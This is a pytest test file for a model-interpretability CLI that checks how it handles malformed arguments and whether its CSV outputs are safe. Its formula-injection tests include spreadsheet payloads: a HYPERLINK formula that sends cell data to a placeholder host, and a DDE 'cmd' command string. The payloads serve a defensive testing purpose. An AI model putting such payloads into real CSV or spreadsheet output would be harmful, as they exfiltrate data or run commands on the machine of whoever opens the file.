"""The newest surfaces under bad input (issue 29), each on the real command: contrast words that tokenize to
nothing (attribute, routes, effects, ablate), two outputs of one command on one path, ``--csv -`` / ``--json -``
with nothing but the data on standard output, ``@`` token indices of thousands of digits (``--global``,
``--query``, ``--referents``), CSV cells that a spreadsheet would run as formulas (attribute, routes, debug,
rank), and the empty ``--patch-from`` / ``--variant`` file named as what it is. Every refusal is one
``inspector: error:`` line, exit 2; those that need no model come before it loads."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from inspector.attribute.attribution import attribute
from inspector.cli import main
from inspector.store.files import FORMULA_START

import hostile
import tiny
from conftest import LEGAL

OUTPUT = "The Lessor shall indemnify the Lessee."
FIXTURE = tiny.FIXTURES / "worked_example.safetensors"
HUGE = "@" + "9" * 5000  # int() refuses more than 4,300 digits (a traceback before)


@pytest.fixture(scope="module")
def gpt2(tmp_path_factory, tokenizer):
    path = tmp_path_factory.mktemp("gpt2")
    tiny.build("gpt2").save_pretrained(path)
    tokenizer.save_pretrained(path)
    return str(path)


def refused(capsys, argv, *, loads: bool | None = None) -> str:
    """The one error line of ``argv`` (exit 2, no traceback; ``loads`` False: before the model loads)."""
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    lines = [line for line in err.strip().splitlines()
             if line.strip() and not line.startswith("loading model") and "Loading weights" not in line]
    assert code == 2 and len(lines) == 1 and lines[0].startswith("inspector: error:"), (code, err)
    if loads is False:
        assert "loading model" not in err, err
    return lines[0]


# ---- contrast words that tokenize to nothing -------------------------------------------------------------
COMMANDS = {
    "attribute": ["attribute", "--methods", "rollout"],
    "routes": ["routes"],
    "effects": ["effects", "--top", "1", "--csv", "{tmp}/e.csv"],
    "ablate": ["ablate", "--heads", "transformer.h.0.attn:0"],
}


@pytest.mark.parametrize("command", list(COMMANDS))
@pytest.mark.parametrize("contrast, before, names", [
    ("\u200b,Lessor", True, "word 1 ('\\u200b') has no visible characters"),  # a zero-width space alone
    ("Les\u00adsee,Lessor", True, "'Les\\xadsee'"),                # a soft hyphen inside (Unicode Cf)
    ("\u0301,Lessor", True, "word 1 ('\\u0301') has no visible characters"),  # an accent alone
    ("Lessee,\x85", True, "word 2 ('\\x85') has no visible characters"),  # a C1 control: stripped as space
    ("Lessee,\u00ad", True, "word 2 ('\\xad') has no visible characters"),  # a soft hyphen alone
    ("\ufffd,Lessor", False, "RIGHT word '\\ufffd' gives no token"),  # this tokenizer drops it
])
def test_a_contrast_word_that_tokenizes_to_nothing_is_one_line_naming_it(command, contrast, before, names, gpt2,
                                                                        tmp_path, capsys):
    argv = [a.replace("{tmp}", str(tmp_path)) for a in COMMANDS[command]]
    line = refused(capsys, [*argv, "--model", gpt2, "--source", LEGAL, "--output", OUTPUT, "--contrast", contrast],
                   loads=False if before else None)
    assert names in line, line


def test_a_wrong_word_the_tokenizer_drops_in_the_output_is_named(gpt2, capsys):
    output = "The Lessor shall indemnify the \ufffd Lessee."
    line = refused(capsys, ["routes", "--model", gpt2, "--source", LEGAL, "--output", output, "--contrast", "Lessee,\ufffd"])
    assert "WRONG word '\\ufffd' gives no token" in line


# ---- two outputs on one path; the data alone on standard output --------------------------------------------
@pytest.mark.parametrize("outputs", [
    ["--csv", "{tmp}/r.csv", "--json", "{tmp}/r.csv"],
    ["--csv", "{tmp}/r.csv", "--json", "{tmp}/./sub/../r.csv"],
    ["--csv", "-", "--json", "-"],
    ["--csv", "{tmp}/link.csv", "--json", "{tmp}/target.csv"],
])
def test_two_outputs_of_routes_on_one_path_are_refused_before_the_model_loads(outputs, gpt2, tmp_path, capsys):
    (tmp_path / "sub").mkdir()
    (tmp_path / "target.csv").write_text("x")
    (tmp_path / "link.csv").symlink_to(tmp_path / "target.csv")
    argv = ["routes", "--model", gpt2, "--source", LEGAL, "--output", OUTPUT,
            *[a.replace("{tmp}", str(tmp_path)) for a in outputs]]
    line = refused(capsys, argv, loads=False)
    assert "--csv and --json both write" in line
    assert (tmp_path / "target.csv").read_text() == "x"


@pytest.mark.parametrize("outputs, flags", [
    (["--csv", "{tmp}/e.csv", "--matter-csv", "{tmp}/e.csv"], "--csv and --matter-csv"),
    (["--csv", "{tmp}/e.csv", "--matter-csv", "{tmp}/m.csv", "--patch-csv", "{tmp}/m.csv", "--variant", "q={tmp}/v.txt"],
     "--matter-csv and --patch-csv"),
])
def test_two_outputs_of_effects_on_one_path_are_refused(outputs, flags, gpt2, tmp_path, capsys):
    (tmp_path / "v.txt").write_text('The Lessee shall "indemnify" the Lessor.')
    argv = ["effects", "--model", gpt2, "--source", LEGAL, "--output", OUTPUT, "--contrast", "Lessee,Lessor",
            *[a.replace("{tmp}", str(tmp_path)) for a in outputs]]
    assert flags in refused(capsys, argv, loads=False)


def test_an_output_over_a_text_the_command_reads_is_refused(gpt2, tmp_path, capsys):
    source = tmp_path / "source.txt"
    source.write_text(LEGAL)
    line = refused(capsys, ["attribute", "--model", gpt2, "--source-file", source, "--output", OUTPUT,
                            "--csv", tmp_path / "." / "source.txt"], loads=False)
    assert "--csv would write over --source-file" in line and source.read_text() == LEGAL


def test_attribute_csv_to_stdout_is_the_csv_alone(gpt2, capsys, tokenizer):
    assert main(["attribute", "--model", gpt2, "--source", LEGAL, "--output", OUTPUT, "--contrast", "Lessee,Lessor",
                 "--methods", "input_x_gradient,rollout", "--csv", "-"]) == 0
    out, err = capsys.readouterr()
    df = pd.read_csv(io.StringIO(out), keep_default_na=False)  # the first line is the header, no summary before
    assert out.startswith("position,") and "metric:" in err and "metric:" not in out
    api = attribute(tiny.build("gpt2"), tokenizer, LEGAL, OUTPUT, contrast="Lessee,Lessor", methods=["input_x_gradient"])
    assert df["input_x_gradient"].tolist() == pytest.approx(api["input_x_gradient"].tolist(), abs=1e-7)


@pytest.mark.parametrize("flag", ["--csv", "--json"])
def test_routes_output_to_stdout_is_the_data_alone(flag, gpt2, capsys):
    assert main(["routes", "--model", gpt2, "--source", LEGAL, "--output", OUTPUT, "--contrast", "Lessee,Lessor",
                 flag, "-"]) == 0
    out, err = capsys.readouterr()
    if flag == "--json":
        assert json.loads(out)["edges"]
    else:
        assert out.startswith("stack,") and len(pd.read_csv(io.StringIO(out))) > 0
    assert "route of position" in err and "route of position" not in out


# ---- @ token indices of thousands of digits ---------------------------------------------------------------
@pytest.mark.parametrize("argv", [
    ["split", FIXTURE, "--query", HUGE, "--referents", "the,blocked"],
    ["split", FIXTURE, "--query", "blocked", "--referents", f"{HUGE},@1"],
    ["split", FIXTURE, "--query", f"@1-{HUGE[1:]}", "--referents", "the,blocked"],
    ["explain", FIXTURE, "--site", "example.attention", "--head", "0", "--query", HUGE],
    ["plot", FIXTURE, "--site", "example.attention", "--head", "0", "--query", HUGE, "-o", "{tmp}/p.png"],
    ["capture", "--text", "The Lessee shall pay.", "--global", HUGE, "-o", "{tmp}/c.safetensors"],
    ["ablate", "--source", LEGAL, "--output", OUTPUT, "--heads", "transformer.h.0.attn:0", "--global", f"@0,{HUGE}"],
])
def test_a_token_index_of_thousands_of_digits_is_one_line(argv, tmp_path, capsys):
    line = refused(capsys, [str(a).replace("{tmp}", str(tmp_path)) for a in argv], loads=False)
    assert "5,000 digits" in line and "999999999" in line and len(line) < 300


# ---- CSV cells that would run as formulas ----------------------------------------------------------------
ATTACK = 'Pay =HYPERLINK("http://x/?d="&A1) +1 -2 @SUM(A1) to the Lessee.'


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(text: str) -> list[str]:
    """Every text cell of a CSV that a spreadsheet would run as a formula (a number such as -1 is a number)."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START) and not _number(cell)]


def test_token_text_never_starts_a_formula_in_attribute_and_routes_csv(gpt2, tmp_path, capsys):
    a, r = tmp_path / "a.csv", tmp_path / "r.csv"
    assert main(["attribute", "--model", gpt2, "--source", ATTACK, "--output", OUTPUT, "--contrast", "Lessee,Lessor",
                 "--methods", "rollout", "--csv", str(a)]) == 0
    assert main(["routes", "--model", gpt2, "--source", ATTACK, "--output", OUTPUT, "--contrast", "Lessee,Lessor",
                 "--threshold", "0", "--csv", str(r)]) == 0
    capsys.readouterr()
    for path in (a, r):
        text = path.read_text()
        assert formula_cells(text) == [], path.name
    df = pd.read_csv(a, keep_default_na=False)
    assert {"'=", "'+", "'-", "'@"} <= set(df["token"])  # the tokens, quoted, read back with one ' more
    assert pd.api.types.is_float_dtype(df["rollout"]) and (df["rollout"] >= 0).all()  # numbers untouched
    edges = pd.read_csv(r, keep_default_na=False)
    assert "'=" in set(edges["from_token"]) and pd.api.types.is_float_dtype(edges["importance"])


def test_token_text_never_starts_a_formula_in_rank_csv(tmp_path, capsys):
    def edit(meta, tensors):
        meta["inputs"][0]["tokens"] = ['=HYPERLINK("http://x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"][
            : len(meta["inputs"][0]["tokens"])]
        return tensors

    path = hostile.rewrite(tmp_path / "f.safetensors", edit)
    out = tmp_path / "rank.csv"
    assert main(["rank", str(path), "--csv", str(out)]) == 0
    capsys.readouterr()
    assert formula_cells(out.read_text()) == []
    df = pd.read_csv(out, keep_default_na=False)
    assert df["top_key"].str.startswith("'").all()
    assert pd.api.types.is_float_dtype(df["entropy"])


def test_token_text_never_starts_a_formula_in_debug_csvs(gpt2, tmp_path, capsys):
    out = tmp_path / "dbg"
    assert main(["debug", "--model", gpt2, "--source", "=Lessee shall indemnify -Lessor. " + LEGAL, "--output", OUTPUT,
                 "--query", "indemnify", "--referents", "Lessee,Lessor", "--contrast", "Lessee,Lessor", "-o", str(out)]) == 0
    capsys.readouterr()
    written = sorted(out.glob("*.csv"))
    assert len(written) > 5  # rank, split, attribution, route, effects, ...
    for path in written:
        assert formula_cells(path.read_text()) == [], path.name
    quoted = [c for p in written for row in csv.reader(io.StringIO(p.read_text())) for c in row if c in ("'=", "'-")]
    assert quoted  # the source's tokens = and - are there, quoted


# ---- an empty text file names the flag it was given to ----------------------------------------------------
def test_an_empty_patch_from_or_variant_file_is_named_before_the_model_loads(gpt2, tmp_path, capsys):
    empty = tmp_path / "empty.txt"
    empty.write_text(" \n")
    line = refused(capsys, ["ablate", "--model", gpt2, "--source", LEGAL, "--output", OUTPUT, "--heads",
                            "transformer.h.0.attn:0", "--patch-from", empty], loads=False)
    assert "--patch-from file" in line and "empty.txt" in line and "--text" not in line
    line = refused(capsys, ["effects", "--model", gpt2, "--source", LEGAL, "--output", OUTPUT, "--contrast",
                            "Lessee,Lessor", "--csv", tmp_path / "e.csv", "--variant", f"q={empty}"], loads=False)
    assert "variant file" in line and "empty" in line
